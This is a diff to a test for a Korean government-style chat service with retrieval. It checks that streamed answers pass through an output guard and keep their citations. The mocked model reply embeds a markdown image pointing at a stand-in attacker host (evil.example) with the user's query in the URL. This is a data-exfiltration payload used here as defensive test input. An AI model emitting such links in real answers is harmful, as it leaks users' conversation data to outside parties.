@@ -278,7 +278,8 @@ describe('grounded answers with citations (PGlite)', () => {
   test('kgov-rag with a generator streams over /v1 through the output guard, with citations in the last chunk', async () => {
     const { generating, client } = await generatingServer();
     try {
-      upstream.setReplyText('민원은 접수한 날부터 7일 안에 처리합니다 [1]. 자세한 안내: ![x](https://evil.example/p.png?q=민원) [5]');
+      // Long enough to be released in pieces: the output guard holds back 64 characters and releases 16 at a time.
+      upstream.setReplyText('민원은 접수한 날부터 7일 안에 처리합니다 [1]. 자세한 안내: ![x](https://evil.example/p.png?q=민원) [5] 처리 결과는 문자와 전자우편으로 함께 안내해 드립니다.');
       const stream = await client.chat.completions.create({ model: 'kgov-rag', messages: [{ role: 'user', content: '민원 처리 기한은?' }], stream: true });
       let text = '';
       let deltas = 0;
